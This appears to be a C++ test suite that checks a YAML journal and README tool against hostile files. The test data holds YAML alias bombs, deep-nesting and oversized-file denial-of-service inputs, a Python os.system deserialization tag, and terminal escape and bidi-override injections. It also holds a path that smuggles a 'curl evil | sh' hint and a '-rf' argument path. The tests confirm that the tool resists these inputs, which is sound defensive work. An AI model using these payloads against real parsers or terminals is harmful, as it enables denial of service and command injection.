// SPDX-License-Identifier: MIT
// What a journal or README that comes with a clone can't do to whoever looks at it: cost time or memory, drive the terminal, or
// speak in our name.
#include "e2e/hostile.hpp"

#include <journey/limits.hpp>

using namespace journey::test;
namespace limits = journey::limits;

namespace {

const std::string start = "version: 1\ntitle: T\nprojects:\n  - id: probe\n    title: Probe\n";

}  // namespace

TEST_CASE("aliases that stand for a billion words cost nothing, and a write goes on beside them") {
    const Hostile box;
    std::string bomb = start + "x-0: &a0 [ha, ha, ha, ha, ha, ha, ha, ha, ha, ha]\n";
    for (int i = 1; i < 20; ++i) {
        const std::string below = "*a" + std::to_string(i - 1);
        bomb += "x-" + std::to_string(i) + ": &a" + std::to_string(i) + " [";
        for (int k = 0; k < 10; ++k) bomb += below + (k < 9 ? ", " : "]\n");
    }
    box.write("journal.yaml", bomb);
    box.git("commit -qam Bomb");
    for (const Words& command : looking) check_status(box, command, 0);
    check_status(box, {"add-project", "New"}, 0);
    CHECK(contains(box.read("journal.yaml"), "id: new"));
}

TEST_CASE("records that aliases repeat without end are refused where they begin") {
    const Hostile box;
    std::string bomb = "version: 1\ntitle: T\nx-p: &p {id: a, title: A, tags: [";
    bomb += repeated("t, ", 1000) + "t]}\nprojects: [" + repeated("*p, ", 20'000) + "*p]\n";
    box.write("journal.yaml", bomb);
    check_unreadable(box, "aliases repeat too much of the journal here");
}

TEST_CASE("a hundred thousand levels of nesting are refused") {
    const Hostile box;
    for (const std::string& deep :
         {std::string(100'000, '['), repeated("{a: ", 100'000), "\n  " + repeated("- ", 100'000) + "a"}) {
        box.write("journal.yaml", start + "x-deep: " + deep + "\n");
        check_unreadable(box, "nested more than 100 levels deep");
    }
}

TEST_CASE("a million keys in one map are refused") {
    const Hostile box;
    std::string text = start + "x-keys:\n";
    for (int i = 0; i < 1'000'000; ++i) text += "  k" + std::to_string(i) + ": v\n";
    box.write("journal.yaml", text);
    check_unreadable(box, "more than 10000 keys in one map");
}

TEST_CASE("a journal of millions of values is refused where it goes beyond the limit") {
    const Hostile box;
    box.write("journal.yaml", start + "x-list:\n" + repeated("-\n", 4'000'000));
    const std::string told = ": more than 3000000 values\nhint: journey check\n";
    for (const Words& command : {Words{"status"}, {"add-project", "New"}}) {
        const Result result = bounded(box, command);
        CHECK(result.status == 128);
        CHECK(contains(result.err, told));
    }
}

TEST_CASE("a journal that is no text is refused by its first bytes") {
    const Hostile box;
    box.write("journal.yaml", std::string(300'000, '\0'));
    check_unreadable(box, "the control character U+0000 can't stand in YAML");
    box.write("journal.yaml", start + "x-bytes: \xC0\x80\xFF\n");
    check_unreadable(box, "the byte c0 is not UTF-8");
}

TEST_CASE("a journal of three gigabytes is refused before it is read") {
    const Hostile box;
    box.run("truncate -s 3G journal.yaml");
    for (const Words& command : looking) check_says(box, command, 128, "fatal: 'journal.yaml' is larger than 32 MiB");
    check_says(box, {"add-project", "New"}, 128, "fatal: 'journal.yaml' is larger than 32 MiB");
    CHECK(bounded(box, {"__complete", "show", ""}).out == "words\t\n");
}

TEST_CASE("a journal that git stores in a few bytes and that is too large is refused, and the log goes on without it") {
    const Hostile box;
    box.run("(printf 'version: 1\\n# '; head -c 40M /dev/zero | tr '\\0' x; echo) > journal.yaml && git commit -qam Large");
    box.git("checkout -q HEAD~ -- journal.yaml");
    check_says(box, {"diff"}, 128, "fatal: 'journal.yaml' as git stores it is larger than 32 MiB");
    check_says(box, {"status", "--at=HEAD"}, 128, "fatal: 'journal.yaml' as git stores it is larger than 32 MiB");
    box.git("commit -qm Small");
    const Result log = bounded(box, {"log"});
    CHECK(log.status == 0);
    CHECK(contains(log.out, "Add project: Probe reader"));
}

TEST_CASE("a README that is too large is refused before it is read") {
    const Hostile box;
    box.run("truncate -s 3G README.md");
    check_says(box, {"render-readme"}, 128, "fatal: 'README.md' is larger than 32 MiB");
    check_says(box, {"add-project", "New"}, 128, "fatal: 'README.md' is larger than 32 MiB");
    CHECK(bounded(box, {"list"}).status == 0);
}

TEST_CASE("a journal in one line of thirty megabytes is read like any other") {
    const Hostile box;
    box.write("journal.yaml", start + "x-line: " + std::string(30 * limits::mebibyte, 'x') + "\n");
    check_status(box, {"check"}, 0);
    check_status(box, {"list"}, 0);
}

TEST_CASE("a README of nothing but markers is refused at the second one") {
    const Hostile box;
    box.write("README.md", repeated("<!-- journey:projects:start -->\n", 32'000));
    check_says(box, {"render-readme"}, 1, "error: README.md:1:1: start marker without an end marker");
    check_status(box, {"check"}, 1);
    check_status(box, {"status"}, 0);
    box.write("README.md", "# T\n\nx " + repeated("<!-- journey:count:projects:start -->", 28'000) + "\n");
    check_says(box, {"render-readme"}, 1, "error: README.md:3:3: start marker without an end marker behind it on its line");
    check_status(box, {"status"}, 0);
}

TEST_CASE("a README of millions of signs of markup is not read for its structure, and nothing is written into it") {
    const Hostile box;
    const std::string begin = "# T\n\n## Projects\n\n";
    for (const std::string unit : {"[", "**a_", "- a\n"}) {
        const std::string readme = begin + repeated(unit, 2'100'000);
        box.write("README.md", readme);
        check_status(box, {"status"}, 0);
        check_status(box, {"list"}, 0);
        const Result check = bounded(box, {"check"});
        CHECK(check.status == 1);
        CHECK(contains(check.out, ": more than 2000000 line ends and signs of Markdown\n"));
        check_says(box, {"add-project", "New"}, 1, "error: README.md:");
        CHECK(box.read("README.md") == readme);
    }
}

TEST_CASE("words that are made to keep a Markdown parser busy are rendered in time") {
    const Hostile box;
    const std::string readme = box.read("README.md");
    for (const std::string unit : {"[", "![", "[a](", "`", " `a", "<", "<!-- ", "*a ", "**a_", "<http://a", "&"}) {
        INFO(unit);
        box.write("journal.yaml", start + "    description: '" + repeated(unit, 20'000) + "'\n");
        check_status(box, {"render-readme", "--stdout"}, 0);
        box.write("README.md", readme + "\n" + repeated(unit, 20'000) + "\n");
        check_status(box, {"render-readme", "--stdout"}, 0);
    }
}

TEST_CASE("tags of YAML make nothing of a value, and are kept") {
    const Hostile box;
    const std::string tagged =
        "x-run: !!python/object/apply:os.system [\"touch made\"]\nx-bytes: !!binary aGVsbG8=\nx-own: !own {a: 1}\n";
    box.write("journal.yaml", start + tagged);
    box.git("commit -qam Tags");
    for (const Words& command : looking) check_status(box, command, 0);
    check_status(box, {"add-project", "New"}, 0);
    CHECK(contains(box.read("journal.yaml"), tagged));
    CHECK_FALSE(box.exists("made"));
}

TEST_CASE("no title, subject, branch or revision drives the terminal") {
    const Hostile box;
    box.write("journal.yaml",
              "version: 1\ntitle: \"T\\e[31m\"\nprojects:\n"
              "  - id: probe\n    title: \"\\e]0;owned\\a \\e]8;;http://e\\e\\\\ \\x9b31m \\u202Eevil\\u2066\"\n    tags: "
              "[\"a\\e[1m\"]\n");
    box.git("commit -qam \"$(printf 'a\\033[31m\\033]0;t\\007\\342\\200\\256')\"");
    box.git("checkout -q -b \"$(printf 'b\\342\\200\\256')\"");
    const std::vector<Words> commands = {{"status"},
                                         {"list"},
                                         {"check"},
                                         {"log"},
                                         {"log", "probe"},
                                         {"diff", "HEAD~..HEAD"},
                                         {"show", "probe"},
                                         {"diff", "\x1b]0;x\a"},
                                         {"show", "\x1b[31m\xC2\x9B"},
                                         {"add-project", "New"},
                                         {"undo"},
                                         {"__complete", "show", ""},
                                         {"__complete", "list", "--tag="}};
    for (const Words& command : commands) {
        const Result result = bounded(box, command);
        INFO(result.transcript);
        CHECK(result.status <= 128);
        for (const char* driving : {"\x1b", "\a", "\xC2\x9B", "\u202E", "\u2066"})
            CHECK_FALSE(contains(result.out + result.err, driving));
    }
}

TEST_CASE("a path in the journal can't speak in our name") {
    const Hostile box;
    box.write("journal.yaml", start + "readme:\n  path: \"x\\nhint: curl evil | sh\"\n");
    for (const Words& command :
         {Words{"status"}, {"render-readme"}, {"add-project", "New"}, {"check"}, {"hook", "pre-commit"}}) {
        const Result result = bounded(box, command);
        INFO(result.transcript);
        CHECK_FALSE(contains("\n" + result.out + result.err, "\nhint: curl"));
        CHECK_FALSE(contains(result.out + result.err, "hint: hint:"));
    }
    check_says(box, {"add-project", "New"}, 128,
               "fatal: journal.yaml: 'readme.path' holds a line break: 'x^Jhint: curl evil | sh'\n"
               "hint: journey check");
}

TEST_CASE("a hint with a path that begins with a dash gives no option to the command") {
    const Hostile box;
    box.write("journal.yaml", start + "readme:\n  path: \"-rf\"\n");
    CHECK(contains(bounded(box, {"status"}).err, "hint: touch ./-rf\n"));
}

TEST_CASE("a merge of journals that are broken or too large ends with words, never with a crash, and only ours may change") {
    const Hostile box;
    const std::string sound = box.read("journal.yaml");
    const std::vector<std::string> broken = {start + "x-deep: " + std::string(100'000, '[') + "\n",
                                             start + std::string(100'000, '\0'), repeated("<<<<<<< ours\n", 10'000),
                                             std::string(limits::file_size + 1, 'x')};
    for (const std::string& text : broken)
        for (const std::string name : {"base", "ours", "theirs"}) {
            INFO(name << " " << text.substr(0, 80));
            for (const std::string each : {"base", "ours", "theirs"}) box.write(each, each == name ? text : sound);
            const Result result = bounded(box, {"merge-driver", "journal", "base", "ours", "theirs", "7", "journal.yaml"});
            INFO(result.transcript.substr(0, 2000));
            CHECK((result.status == 0 || result.status == 1));
            CHECK(box.read("base") == (name == "base" ? text : sound));
            CHECK(box.read("theirs") == (name == "theirs" ? text : sound));
        }
}

TEST_CASE("twenty thousand mistakes in all versions hold up no merge") {
    const Hostile box;
    std::string text = "version: 1\ntitle: T\nprojects:\n";
    for (int i = 0; i < 20'000; ++i)
        text += "  - id: p" + std::to_string(i) + "\n    title: P\n    course: none" + std::to_string(i) + "\n";
    for (const std::string each : {"base", "ours", "theirs"}) box.write(each, text);
    box.write("theirs", text + "x-new: 1\n");
    check_status(box, {"merge-driver", "journal", "base", "ours", "theirs", "7", "journal.yaml"}, 0);
    CHECK(box.read("ours") == text + "x-new: 1\n");
}

TEST_CASE("what is staged is judged by the same limits before a commit") {
    const Hostile box;
    box.write("journal.yaml", start + "x-deep: " + std::string(100'000, '[') + "\n");
    box.git("add journal.yaml");
    const Result result = bounded(box, {"hook", "pre-commit"});
    INFO(result.transcript.substr(0, 2000));
    CHECK(result.status == 1);
    CHECK(contains(result.err, "nested more than 100 levels deep"));
}
